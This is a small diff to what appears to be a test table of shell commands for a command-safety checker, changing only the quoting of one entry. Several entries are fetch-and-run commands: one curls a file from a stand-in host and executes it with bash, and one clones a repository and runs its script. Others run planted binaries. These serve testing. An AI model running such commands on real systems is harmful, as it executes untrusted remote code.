@@ -62,7 +62,7 @@ describe('what was written over it, or hidden, is not', () => {
     ['a file named after the shell, by another shell', "echo 'rm x' > /tmp/a-$$; bash -c 'echo ls > /tmp/a-$$'; bash /tmp/a-$$"],
     ['in a folder named after the shell, by a clone', 'd=/tmp/a-$$; git clone -q https://x.test/a $d; cd $d && bash a.sh'],
     ['a file that may lie there under the name of the shell', 'bash /tmp/a-$$/a.sh'],
-    ['after a part of the second', "x=$(date +%s); curl -o /tmp/a-${x%?} https://x.test/a; echo ls > /tmp/a-$x; bash /tmp/a-${x%?}"],
+    ['after a part of the second', 'x=$(date +%s); curl -o /tmp/a-${x%?} https://x.test/a; echo ls > /tmp/a-$x; bash /tmp/a-${x%?}'],
     ['a program there that nobody wrote', 'd=$(mktemp -d); "$d/x" -v'],
     ['a program put into an environment', 'd=$(mktemp -d); python3 -m venv $d; cp /opt/x/python $d/bin/python; $d/bin/python -V'],
     ['an environment over what was unpacked', 'd=$(mktemp -d); tar xf /tmp/o.tar -C $d; python3 -m venv $d; $d/bin/python -V'],
